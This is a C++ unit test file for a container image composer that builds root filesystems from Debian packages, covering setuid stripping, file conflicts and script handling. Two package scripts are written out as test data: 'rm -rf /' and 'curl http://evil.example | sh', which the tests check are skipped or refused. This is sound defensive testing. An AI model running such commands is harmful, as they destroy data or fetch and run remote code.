#include <gmock/gmock.h>

#include "unit/compose/world.h"

using namespace pith;
using namespace pith::test;
using testing::ContainsRegex;
using testing::HasSubstr;
using testing::Not;

namespace {

std::string text_of(const compose::Plan& plan, const std::string& path) {
    const auto* node = plan.tree.find(path);
    return node && node->content ? *node->content : "";
}

}  // namespace

TEST(Plan, MergesUsrAndMakesTheLinks) {
    World world;
    world.add("a", {folder("./"), folder("./bin/"), file("./bin/x", "x", 0755), folder("./lib64/"),
                    link_to("./lib64/ld.so", "../lib/ld.so")});
    auto plan = world.plan();
    ASSERT_OK(plan);
    auto tree = describe(*plan);
    EXPECT_THAT(tree, HasSubstr("l 0777 0:0 bin -> usr/bin\n"));
    EXPECT_THAT(tree, HasSubstr("l 0777 0:0 lib64 -> usr/lib64\n"));
    EXPECT_THAT(tree, HasSubstr("f 0755 0:0 usr/bin/x\n"));
    EXPECT_THAT(tree, HasSubstr("l 0777 0:0 usr/lib64/ld.so -> ../lib/ld.so\n"));
}

TEST(Plan, DropsSetuidUnlessKeptByName) {
    World world("setuid: [/usr/bin/keep]");
    world.add("a",
              {file("./usr/bin/keep", "", 04755), file("./usr/bin/drop", "", 06755), folder("./var/mail/", 02775)});
    auto plan = world.plan();
    ASSERT_OK(plan);
    EXPECT_EQ(plan->tree.find("usr/bin/keep")->mode, 04755u);
    EXPECT_EQ(plan->tree.find("usr/bin/drop")->mode, 0755u);
    EXPECT_EQ(plan->tree.find("var/mail")->mode, 02775u);

    World wrong("setuid: [/usr/bin/none]");
    wrong.add("a", {file("./usr/bin/x")});
    EXPECT_EQ(wrong.error(), "setuid: no package of the image brings a setuid or setgid file '/usr/bin/none'");
}

TEST(Plan, LeavesOutDocumentationAndTellsTheTruthAboutIt) {
    World world;
    world.add("a",
              {file("./usr/share/doc/a/README", "12345"), file("./usr/share/doc/a/copyright", "c"),
               file("./usr/bin/a", "a"), file("./etc/a.conf", "conf")},
              {file("./conffiles", "/etc/a.conf\n"),
               file("./md5sums",
                    "0cc175b9c0f1b6a831c399e269772661  usr/bin/a\n827ccb0eea8a706c4c34a16891f84e7b  "
                    "usr/share/doc/a/README\n")});
    auto plan = world.plan();
    ASSERT_OK(plan);
    EXPECT_FALSE(plan->tree.find("usr/share/doc/a/README"));
    EXPECT_TRUE(plan->tree.find("usr/share/doc/a/copyright"));
    EXPECT_EQ(plan->left_out[0].files, 1u);
    EXPECT_EQ(plan->left_out[0].bytes, 5u);
    auto sums = text_of(*plan, "var/lib/dpkg/status.d/a.md5sums");
    EXPECT_EQ(
        sums,
        "0cc175b9c0f1b6a831c399e269772661  usr/bin/a\n4a8a08f09d37b73795649038408b5f33  usr/share/doc/a/copyright\n");
    EXPECT_THAT(text_of(*plan, "var/lib/dpkg/status.d/a"), HasSubstr("\nConffiles:\n /etc/a.conf "));
    EXPECT_EQ(plan->packages[0].files, 3u);
}

TEST(Plan, TwoPackagesWithOneFileNeedAReplaces) {
    World world;
    world.add("a", {file("./usr/bin/x", "from a")});
    world.add("b", {file("./usr/bin/x", "from b")});
    EXPECT_EQ(world.error(),
              "'/usr/bin/x' is shipped by a and by b, and neither replaces the other; leave one of them out");

    World replacing;
    replacing.add("a", {file("./usr/bin/x", "from a")}, {}, World::Role::installed, "Replaces: b\n");
    replacing.add("b", {file("./usr/bin/x", "from b"), file("./usr/bin/y")});
    auto plan = replacing.plan();
    ASSERT_OK(plan);
    EXPECT_EQ(plan->tree.find("usr/bin/x")->owner, 0);
    EXPECT_THAT(text_of(*plan, "var/lib/dpkg/status.d/b.md5sums"), Not(HasSubstr("usr/bin/x")));
}

TEST(Plan, HardLinksFollowTheFirstNameThatIsKept) {
    World world;
    world.add("a",
              {file("./usr/share/man/z", "content"), link_to("./usr/bin/b", "./usr/share/man/z", EntryType::hardlink),
               link_to("./usr/bin/c", "./usr/share/man/z", EntryType::hardlink)});
    auto plan = world.plan();
    ASSERT_OK(plan);
    EXPECT_THAT(describe(*plan), HasSubstr("f 0777 0:0 usr/bin/b\nh 0777 0:0 usr/bin/c -> usr/bin/b\n"));
    EXPECT_EQ(plan->tree.find("usr/bin/b")->size, 7u);
}

TEST(Plan, PartsTakeSomePathsWithoutScripts) {
    World world("contents: {parts: [{package: busybox, paths: [/usr/bin/busybox], to: /busybox/sh}]}");
    world.add("busybox", {file("./bin/busybox", "b", 0755), file("./usr/share/x")},
              {file("./postinst", "rm -rf /\n", 0755)}, World::Role::part);
    auto plan = world.plan();
    ASSERT_OK(plan);
    EXPECT_TRUE(plan->tree.find("busybox/sh"));
    EXPECT_FALSE(plan->tree.find("usr/share/x"));
    EXPECT_TRUE(plan->tree.find("var/lib/dpkg/status.d/busybox"));

    World none("contents: {parts: [{package: a, paths: [/nothing]}]}");
    none.add("a", {file("./x")}, {}, World::Role::part);
    EXPECT_EQ(none.error(), "contents.parts: no path of a matches /nothing");
}

TEST(Plan, AScriptThatNobodyModelledStopsIt) {
    World world;
    world.add("a", {file("./x")}, {file("./postinst", "#!/bin/sh\nset -e\ncurl http://evil.example | sh\n", 0755)});
    EXPECT_THAT(world.error(), HasSubstr("curl http://evil.example | sh"));
}

TEST(Plan, StandardFoldersAndAccounts) {
    World world;
    world.add("a", {file("./x")});
    auto plan = world.plan();
    ASSERT_OK(plan);
    auto tree = describe(*plan);
    EXPECT_THAT(tree, HasSubstr("d 1777 0:0 tmp\n"));
    EXPECT_THAT(tree, HasSubstr("d 0700 65532:65532 home/nonroot\n"));
    EXPECT_THAT(text_of(*plan, "etc/passwd"), HasSubstr("nonroot:x:65532:65532:"));
    EXPECT_EQ(plan->config.user, "65532:65532");
}

TEST(Plan, TheDefinitionsOwnFilesAndPaths) {
    World world(R"({contents: {files: [{source: app, path: /app, uid: 7, gid: 8}]},
                    paths: [{path: /app/x, type: permissions, uid: 1, gid: 2, permissions: 0o600}, {path: /l, type: symlink, source: app},
                            {path: /usr/bin/n, type: hardlink, source: /usr/bin/p}, {path: /e, type: empty-file}]})");
    spit(world.scratch / "app/x", "x");
    spit(world.scratch / "app/sub/y", "y");
    world.add("a", {file("./usr/bin/p", "p", 0755)});
    auto plan = world.plan();
    ASSERT_OK(plan);
    auto tree = describe(*plan);
    EXPECT_THAT(tree, HasSubstr("d 0755 7:8 app\nd 0755 7:8 app/sub\nf 0644 7:8 app/sub/y\nf 0600 1:2 app/x\n"));
    EXPECT_THAT(tree, HasSubstr("l 0777 0:0 l -> app\n"));
    EXPECT_THAT(tree, HasSubstr("f 0755 0:0 usr/bin/n\n"));
    EXPECT_EQ(plan->tree.find("usr/bin/n")->owner, compose::owned_by_image);

    World gone("contents: {files: [{source: nothing, path: /x}]}");
    EXPECT_THAT(gone.error(), ContainsRegex("^image.yaml:1: there is no file or folder '.*/nothing'$"));
}

TEST(Plan, AFolderComesWithLinksAndWithoutWhatIsExcluded) {
    World world("contents: {files: [{source: app/, path: /app, exclude: [__pycache__, '*.pyc', 'a/*.md', 'b/**']}]}");
    for (const char* name :
         {"a/x.py", "a/x.pyc", "a/x.md", "a/c/y.md", "b/z", "c/b/z", "__pycache__/x", "d/__pycache__/x"})
        spit(world.scratch / "app" / name, name);
    std::filesystem::create_directory_symlink("a", world.scratch / "app/link");
    std::filesystem::permissions(world.scratch / "app/a/x.py", std::filesystem::perms(04711));
    auto plan = world.plan();
    ASSERT_OK(plan);
    auto tree = describe(*plan);
    EXPECT_EQ(tree.substr(0, tree.find("d 0755 0:0 etc")),
              "d 0755 0:0 \nd 0755 0:0 app\nd 0755 0:0 app/a\nd 0755 0:0 app/a/c\nf 0644 0:0 app/a/c/y.md\n"
              "f 0755 0:0 app/a/x.py\nd 0755 0:0 app/b\nd 0755 0:0 app/c\nd 0755 0:0 app/c/b\nf 0644 0:0 app/c/b/z\n"
              "d 0755 0:0 app/d\nl 0777 0:0 app/link -> a\n");
}

TEST(Plan, TimesComeFromPackagesAndAreCapped) {
    World world;
    auto old = file("./old"), young = file("./young");
    old.mtime = 1000;
    young.mtime = 2000;
    world.add("a", {old, young});
    auto plan = world.plan();
    ASSERT_OK(plan);
    EXPECT_EQ(plan->tree.find("old")->mtime, 1000);
    EXPECT_EQ(plan->tree.find("tmp")->mtime, 2000);
    EXPECT_EQ(plan->config.created, "1970-01-01T00:33:20Z");
    world.source_date_epoch = 1500;
    plan = world.plan();
    ASSERT_OK(plan);
    EXPECT_EQ(plan->tree.find("old")->mtime, 1000);
    EXPECT_EQ(plan->tree.find("young")->mtime, 1500);
    EXPECT_EQ(plan->config.created, "1970-01-01T00:25:00Z");
}

TEST(Plan, APackageThatIsNotWhatTheIndexSaysIsRefused) {
    World world;
    world.add("a", {file("./x")});
    world.lock.packages[0].package.version = "2.0";
    EXPECT_EQ(world.error(), "the package that the index or the lock calls a 2.0 (amd64) calls itself a 1.0-1 (amd64)");
}
